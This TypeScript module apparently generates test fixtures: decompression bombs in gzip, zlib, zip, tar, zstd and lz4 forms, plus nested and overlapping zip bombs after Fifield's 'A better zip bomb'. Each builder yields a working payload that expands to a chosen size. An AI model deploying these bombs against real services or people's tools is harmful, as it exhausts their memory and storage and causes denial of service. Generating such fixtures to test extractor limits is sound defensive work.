/** Archives that unpack to far more than they are, made without ever holding what comes out. */
import { constants, crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { tar } from './tar-assembler.js';
import { zip } from './zip-assembler.js';

const megabyte = Buffer.alloc(2 ** 20);

/** Deflated zeros, by repeating what a megabyte of them deflates to. */
export function deflatedZeros(megabytes: number): Buffer {
  const piece = deflateRawSync(megabyte, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const last = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([...Array.from({ length: megabytes }, () => piece), last]);
}

function crcOfZeros(megabytes: number): number {
  let crc = 0;
  for (let count = 0; count < megabytes; count++) crc = crc32(megabyte, crc);
  return crc;
}

export function gzipBomb(megabytes: number): Buffer {
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crcOfZeros(megabytes), 0);
  trailer.writeUInt32LE((megabytes * 2 ** 20) >>> 0, 4);
  return Buffer.concat([gzipSync('').subarray(0, 10), deflatedZeros(megabytes), trailer]);
}

export function zlibBomb(megabytes: number): Buffer {
  return Buffer.concat([deflateSync('').subarray(0, 2), deflatedZeros(megabytes), Buffer.alloc(4)]);
}

/** What a tar archive begins with that holds one member of so many zeros. */
const tarHeader = (megabytes: number): Buffer =>
  Buffer.from(tar([{ name: 'zeros', content: '', size: megabytes * 2 ** 20 }]).subarray(0, 512));

/** Zeros as the only member of a tar archive, deflated. */
function deflatedTar(megabytes: number): Buffer {
  const start = deflateRawSync(tarHeader(megabytes), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([start, deflatedZeros(megabytes)]);
}

function crcOfTar(megabytes: number): number {
  let crc = crc32(tarHeader(megabytes));
  for (let count = 0; count < megabytes; count++) crc = crc32(megabyte, crc);
  return crc;
}

export function tarGzipBomb(megabytes: number): Buffer {
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crcOfTar(megabytes), 0);
  trailer.writeUInt32LE((megabytes * 2 ** 20 + 512) >>> 0, 4);
  return Buffer.concat([gzipSync('').subarray(0, 10), deflatedTar(megabytes), trailer]);
}

export function tarZipBomb(megabytes: number): Uint8Array {
  const uncompressedSize = megabytes * 2 ** 20 + 512;
  const central = { method: 8, uncompressedSize, crc32: crcOfTar(megabytes) };
  return zip([{ name: 'zeros.tar', stored: deflatedTar(megabytes), central }]);
}

/** Zeros in a tar archive, as blocks of one repeated byte. */
export function tarZstdBomb(megabytes: number): Buffer {
  const head = Buffer.from([0x00, 0x10, 0x00]);
  const bytes = zstdBomb(megabytes);
  return Buffer.concat([bytes.subarray(0, 6), head, tarHeader(megabytes), bytes.subarray(6)]);
}

export function zipBomb(megabytes: number, name = 'zeros'): Uint8Array {
  const size = { method: 8, uncompressedSize: megabytes * 2 ** 20, crc32: crcOfZeros(megabytes) };
  return zip([{ name, stored: deflatedZeros(megabytes), central: size }]);
}

/** Blocks of one repeated byte, RFC 8878 section 3.1.1.2. */
export function zstdBomb(megabytes: number): Buffer {
  const header = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58]);
  const block = Buffer.from([0x02, 0x00, 0x10, 0x00]);
  const blocks = Array.from({ length: megabytes * 8 }, () => block);
  return Buffer.concat([header, ...blocks, Buffer.from([0x01, 0x00, 0x00])]);
}

/** One literal and a match of 4 MiB a block. */
export function lz4Bomb(megabytes: number): Buffer {
  const length = 4 * 2 ** 20 - 6 - 19;
  const run = [...Array.from({ length: Math.floor(length / 255) }, () => 255), length % 255];
  const block = Buffer.from([0x1f, 0, 1, 0, ...run, 0x50, 0, 0, 0, 0, 0]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(block.length);
  const blocks = Array.from({ length: megabytes / 4 }, () => Buffer.concat([size, block]));
  return Buffer.concat([Buffer.from([0x04, 0x22, 0x4d, 0x18, 0x60, 0x70, 0x73]), ...blocks, Buffer.alloc(4)]);
}

/** A header that is not compressed before such blocks. */
export function tarLz4Bomb(megabytes: number): Buffer {
  const bytes = lz4Bomb(megabytes);
  const size = Buffer.from([0, 2, 0, 0x80]);
  return Buffer.concat([bytes.subarray(0, 7), size, tarHeader(megabytes), bytes.subarray(7)]);
}

/** `members` zips that each hold `inner`. */
export function zipOfZips(inner: Uint8Array, members: number): Uint8Array {
  return zip(
    Array.from({ length: members }, (_, at) => ({
      name: `lib ${String(at)}.zip`,
      content: inner,
      deflated: true,
    })),
  );
}

/** Members that all have the bytes of the first. */
export function fullOverlap(members: number, megabytes: number): Uint8Array {
  const central = { method: 8, uncompressedSize: megabytes * 2 ** 20, crc32: crcOfZeros(megabytes) };
  const [first, ...others] = Array.from({ length: members }, (_, at) => ({
    name: `lib ${String(at)}`,
    central,
  }));
  if (first === undefined) return zip([]);
  const stored = deflatedZeros(megabytes);
  const compressedSize = stored.length;
  return zip([
    { ...first, stored },
    ...others.map(({ name }) => ({
      name,
      stored: Buffer.alloc(0),
      central: { ...central, compressedSize, localHeaderOffset: 0 },
    })),
  ]);
}

/**
 * Each member quotes the header of the next in a stored block and goes on as that one, after David Fifield, "A better
 * zip bomb" (https://www.usenix.org/conference/woot19/presentation/fifield).
 */
export function quotedOverlap(members: number, megabytes: number): Uint8Array {
  let packed = deflatedZeros(megabytes);
  let size = megabytes * 2 ** 20;
  const headers: Buffer[] = [];
  let body = Buffer.alloc(0);
  const listed: {
    readonly name: string;
    readonly crc: number;
    readonly packed: number;
    readonly size: number;
    readonly fromEnd: number;
  }[] = [];
  for (let at = members - 1; at >= 0; at--) {
    const name = `m${String(at).padStart(3, '0')}`;
    const crc = Array.from({ length: megabytes }, () => megabyte).reduce(
      (sum, zeros) => crc32(zeros, sum),
      crc32(Buffer.concat(headers)),
    );
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x0403_4b50, 0);
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(crc, 14);
    header.writeUInt32LE(packed.length, 18);
    header.writeUInt32LE(size, 22);
    header.writeUInt16LE(name.length, 26);
    const named = Buffer.concat([header, Buffer.from(name)]);
    body = Buffer.concat([named, packed]);
    listed.unshift({ name, crc, packed: packed.length, size, fromEnd: body.length });
    const block = Buffer.from([0, named.length, 0, ~named.length & 0xff, 0xff]);
    packed = Buffer.concat([block, body]);
    size += named.length;
    headers.unshift(named);
  }
  const directory = listed.map(({ name, crc, packed: length, size: content, fromEnd }) => {
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x0201_4b50, 0);
    record.writeUInt16LE(8, 10);
    record.writeUInt32LE(crc, 16);
    record.writeUInt32LE(length, 20);
    record.writeUInt32LE(content, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(body.length - fromEnd, 42);
    return Buffer.concat([record, Buffer.from(name)]);
  });
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x0605_4b50, 0);
  end.writeUInt16LE(members, 8);
  end.writeUInt16LE(members, 10);
  end.writeUInt32LE(Buffer.concat(directory).length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, ...directory, end]);
}
